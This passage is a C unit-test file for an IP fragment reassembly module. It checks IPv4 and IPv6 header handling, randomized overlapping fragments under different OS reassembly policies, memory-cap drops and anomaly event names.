	static const uint8_t opts[8] = {0x94, 0x04, 0, 0, 1, 1, 1, 0};
	static uint8_t data[1200], l4[1300];
	static const int order[] = {1, 2, 0};
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g = {.id = 0xbeef, .ts = T0, .ip_options = opts, .ip_options_len = 8};
	struct packet p;
	const uint8_t *out;
	uint32_t len;
	size_t n;

	fill(data, sizeof(data), 9);
	n = udp_bytes(false, data, sizeof(data), l4);
	len = send_in_order(d, &g, l4, n, 504, order, 3, &out);
	cr_assert_eq(len, 28 + n);
	cr_assert_eq(out[0], 0x47);
	cr_assert_eq((size_t)(out[2] << 8 | out[3]), 28 + n);
	cr_assert_eq(out[4] << 8 | out[5], 0xbeef);
	cr_assert_eq(out[6], 0);
	cr_assert_eq(out[7], 0);
	cr_assert_eq(memcmp(out + 20, opts, 8), 0);
	decode_rebuilt(out, len, &p);
	cr_assert(decode_ipv4_csum_ok(&p));
	check_udp(out, len, false, data, sizeof(data));
	defrag_free(d);
}

static void ipv6_hbh(size_t hbh_len)
{
	static uint8_t data[2500], l4[2600];
	static const int order[] = {4, 0, 3, 1, 2};
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g = {.v6 = true, .id = 0xdeadbeef, .ts = T0, .hbh_len = hbh_len};
	const uint8_t *out;
	uint32_t len;
	size_t n;

	fill(data, sizeof(data), 13);
	n = udp_bytes(true, data, sizeof(data), l4);
	len = send_in_order(d, &g, l4, n, 504, order, 5, &out);
	cr_assert_eq(len, 40 + hbh_len + n);
	cr_assert_eq(out[6], NH_HOP);		/* fixed header still names the HBH */
	cr_assert_eq(out[40], IPPROTO_UDP);	/* HBH now names UDP, not 44 */
	cr_assert_eq(out[41], hbh_len / 8 - 1); /* HBH length kept */
	cr_assert_eq((size_t)(out[4] << 8 | out[5]), hbh_len + n); /* payload length */
	check_udp(out, len, true, data, sizeof(data));
	cr_assert_eq(defrag_stats(d)->reassembled[1], 1);
	defrag_free(d);
}

Test(defrag, ipv6_hop_by_hop_before_fragment_header)
{
	ipv6_hbh(8);
}

Test(defrag, ipv6_long_unfragmentable_part)
{
	ipv6_hbh(504); /* longer than the tracker keeps inline */
}

Test(defrag, ipv6_without_extension_headers_fixes_next_header)
{
	static uint8_t data[900], l4[1000];
	static const int order[] = {1, 0};
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g = {.v6 = true, .id = 1, .ts = T0};
	const uint8_t *out;
	uint32_t len;
	size_t n;

	fill(data, sizeof(data), 17);
	n = udp_bytes(true, data, sizeof(data), l4);
	len = send_in_order(d, &g, l4, n, 504, order, 2, &out);
	cr_assert_eq(out[6], IPPROTO_UDP);
	cr_assert_eq((size_t)(out[4] << 8 | out[5]), n);
	check_udp(out, len, true, data, sizeof(data));
	defrag_free(d);
}

Test(defrag, jumbo_datagram_over_many_pages)
{
	static uint8_t data[60000], l4[60100];
	int order[41];
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g = {.id = 60000, .ts = T0};
	const uint8_t *out;
	uint32_t len;
	size_t n;

	fill(data, sizeof(data), 21);
	n = udp_bytes(false, data, sizeof(data), l4);
	for (int i = 0; i < 41; i++)
		order[i] = (i * 17) % 41; /* a permutation of 0..40 */
	len = send_in_order(d, &g, l4, n, 1480, order, 41, &out);
	cr_assert_eq(len, 20 + n);
	check_udp(out, len, false, data, sizeof(data));
	defrag_free(d);
}

/* ----------------------------------------------------------------- misc */

Test(defrag, event_names)
{
	cr_assert_str_eq(defrag_event_name(DEFRAG_EV_OVERLAP), "frag_overlap");
	cr_assert_str_eq(defrag_event_name(DEFRAG_EV_TINY_FRAGMENT), "frag_tiny");
	cr_assert_str_eq(defrag_event_name(DEFRAG_EV_TOO_LARGE), "frag_too_large");
	cr_assert_str_eq(defrag_event_name(DEFRAG_EV_TIMEOUT), "frag_timeout");
	cr_assert_str_eq(defrag_event_name(DEFRAG_EV_MEMCAP_DROP), "frag_memcap_drop");
	cr_assert_str_eq(defrag_event_name(DEFRAG_EV_BAD_LENGTH), "frag_bad_length");
	cr_assert_str_eq(defrag_event_name(DEFRAG_EV_MAX), "unknown");
}

Test(defrag, non_fragments_are_ignored)
{
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct packet p;
	const uint8_t *out = (const uint8_t *)1;
	uint32_t len = 7;

	memset(&p, 0, sizeof(p));
	p.pub.ip_version = 4;
	cr_assert_eq(defrag_packet(d, &p, &out, &len), 0);
	cr_assert_null(out);
	cr_assert_eq(len, 0);
	cr_assert_eq(defrag_stats(d)->fragments[0], 0);
	defrag_free(d);
	defrag_free(NULL);
}

/* Random overlapping fragments of one datagram: completion happens exactly
 * when the bytes are covered, and under first and last the result is the
 * byte-wise "first writer wins" / "last writer wins" model. */
static void random_run(enum os_policy pol, uint32_t seed)
{
	struct os_policy_map map = {.def = pol};
	struct events ev;
	struct defrag *d = new_defrag(&ev, &map, 0, 0);
	struct dgram g = {.proto = 253, .id = seed, .ts = T0};
	uint8_t model[1024], buf[256];
	bool have[1024] = {false};
	uint32_t total = 512 + 8 * (seed % 64), covered = 0, x = seed;
	const uint8_t *out = NULL;
	uint32_t len = 0;
	int rc = 0;

	for (uint8_t k = 1; rc == 0; k++) {
		uint32_t off, end;

		x = x * 1103515245u + 12345u;
		off = 8 * ((x >> 8) % (total / 8));
		x = x * 1103515245u + 12345u;
		end = off + 8 * (1 + (x >> 8) % 24);
		if (end > total)
			end = total;
		memset(buf, k, end - off);
		for (uint32_t i = off; i < end; i++) {
			if (!have[i] || pol == OS_POLICY_LAST)
				model[i] = k;
			covered += !have[i];
			have[i] = true;
		}
		rc = feed(d, &g, off, buf, end - off, end < total, &out, &len);
		cr_assert_eq(rc, covered == total, "seed %u fragment %u", seed, k);
	}
	cr_assert_eq(len, 20 + total);
	if (pol == OS_POLICY_FIRST || pol == OS_POLICY_LAST)
		cr_assert_eq(memcmp(out + 20, model, total), 0, "%s seed %u", os_policy_name(pol),
			     seed);
	cr_assert_eq(defrag_stats(d)->trackers, 0);
	defrag_free(d);
}

Test(defrag, random_overlaps_every_policy)
{
	for (int pol = 0; pol < OS_POLICY_COUNT; pol++) {
		for (uint32_t seed = 1; seed <= 40; seed++)
			random_run((enum os_policy)pol, seed * 7919u + (uint32_t)pol);
	}
}

Test(defrag, memcap_smaller_than_one_fragment)
{
	const uint64_t cap = 1000; /* room for a tracker, not for a page */
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, cap, 0);
	struct dgram g = {.proto = 253, .id = 1, .ts = T0};
	static uint8_t data[512];

	for (int i = 0; i < 3; i++) {
		cr_assert_eq(feed(d, &g, 0, data, 256, true, NULL, NULL), 0);
		cr_assert_eq(ev.n[DEFRAG_EV_MEMCAP_DROP], i + 1);
		cr_assert_eq(defrag_stats(d)->trackers, 0);
		cr_assert_leq(defrag_stats(d)->memuse, cap);
	}
	defrag_free(d);
}

Test(defrag, ipv6_next_header_of_later_fragments_does_not_split_the_datagram)
{
	static uint8_t data[200], l4[300];
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram first = {.v6 = true, .id = 9, .ts = T0};
	struct dgram later = {.v6 = true, .id = 9, .ts = T0, .proto = IPPROTO_TCP};
	const uint8_t *out;
	uint32_t len;
	size_t n;

	fill(data, sizeof(data), 5);
	n = udp_bytes(true, data, sizeof(data), l4);
	/* The later fragment claims TCP; hosts key on addresses and id only,
	 * and take the protocol from the offset-0 fragment. */
	cr_assert_eq(feed(d, &later, 104, l4 + 104, n - 104, false, NULL, NULL), 0);
	cr_assert_eq(feed(d, &first, 0, l4, 104, true, &out, &len), 1);
	cr_assert_eq(out[6], IPPROTO_UDP);
	check_udp(out, len, true, data, sizeof(data));
	defrag_free(d);
}
